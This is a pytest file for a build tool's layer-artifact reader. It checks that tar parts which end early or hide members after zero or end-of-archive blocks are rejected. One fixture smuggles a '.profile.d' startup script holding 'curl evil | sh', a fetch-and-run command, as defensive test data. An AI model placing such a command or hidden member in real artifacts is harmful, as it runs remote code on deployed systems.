"""What a pulled part holds after its members. Tar readers stop at a zero block (GNU
tar says "A lone zero block" and stops; Python's tarfile stops), and so did both of
slugbuild's part readers: a member hidden after one was never checked against the
index, yet kept and shipped in every slug built from the layer (a reader told to
ignore zeros unpacks it). And a runtime's or dependencies' part is copied into
slugs as it is: one ending with an end-of-archive block ended every slug built from
it there, the app's own files (packed after it) never unpacked by `tar -xzf`,
though the build was green."""

from __future__ import annotations

import gzip
import hashlib
import io
import tarfile
from pathlib import Path

import pytest

from slugbuild import layer_artifact
from slugbuild.cache import Cache
from slugbuild.layer_artifact import ARTIFACT_FORMAT, ArtifactInvalid, Fetched, materialise

KEY = "ef" * 32
NAME = f"python-3.12.0-{KEY[:12]}"
PYTHON = b"#!/bin/sh\n"


def _member(name: str, data: bytes) -> bytes:
    info = tarfile.TarInfo(name)
    info.size, info.mode = len(data), 0o644
    return info.tobuf(tarfile.PAX_FORMAT) + data + bytes(-len(data) % 512)


def _entry(raw: bytes, kind: str = "runtimes") -> Fetched:
    index = {"files": {"bin/python3": [len(PYTHON), 0o100644,
                                       hashlib.sha256(PYTHON).hexdigest()]},
             "symlinks": {}, "dirs": ["bin"], "host_paths": None}
    config = {"format": ARTIFACT_FORMAT, "namespace": "sb1-test", "kind": kind, "name": NAME,
              "key": KEY, "inputs": {}, "part": {"name": "p", "prefix": "./"}}
    return Fetched(config, index, gzip.compress(raw, mtime=0))


MEMBERS = _member("./bin/python3", PYTHON)
HIDDEN = _member("./.profile.d/x.sh", b"curl evil | sh\n")
SHAPES = {
    "a member hidden after a zero block": MEMBERS + bytes(512) + HIDDEN,
    "a member hidden after an end-of-archive": MEMBERS + bytes(1024) + HIDDEN + bytes(1024),
    "an end-of-archive block (tarfile's own)": MEMBERS + bytes(10240 - len(MEMBERS)),
    "a lone zero block": MEMBERS + bytes(512),
}


@pytest.mark.parametrize("part_only", [True, False], ids=["part-only", "tree"])
@pytest.mark.parametrize("streaming", [False, True], ids=["in-memory", "streaming"])
@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_a_slug_part_ends_with_its_last_member(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                               shape: str, streaming: bool,
                                               part_only: bool) -> None:
    if streaming:
        monkeypatch.setattr(layer_artifact, "IN_MEMORY_LIMIT", 0)
    cache = Cache(tmp_path / "cache")
    with pytest.raises(ArtifactInvalid, match="end-of-archive"):
        materialise(cache, _entry(SHAPES[shape]), part_only=part_only)
    assert not (cache.root / "runtimes" / NAME).exists()


@pytest.mark.parametrize("streaming", [False, True], ids=["in-memory", "streaming"])
def test_the_members_alone_are_a_slug_part(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                           streaming: bool) -> None:
    if streaming:
        monkeypatch.setattr(layer_artifact, "IN_MEMORY_LIMIT", 0)
    layer = materialise(Cache(tmp_path / "cache"), _entry(MEMBERS))
    assert (layer.tree / "bin/python3").read_bytes() == PYTHON


def test_a_tree_part_may_end_as_tarfile_ends_it_but_hide_nothing_after() -> None:
    """A static output's part is made by tarfile (never copied into a slug)."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo("./a.css")
        info.size = 3
        tar.addfile(info, io.BytesIO(b"a{}"))
    ends: list[int] = []
    members = list(layer_artifact._tar_members(memoryview(raw.getvalue()), ends))
    assert [m[0] for m in members] == ["./a.css"] and ends == [1024]
    with pytest.raises(ArtifactInvalid, match="after its end-of-archive"):
        list(layer_artifact._tar_members(memoryview(raw.getvalue() + HIDDEN)))
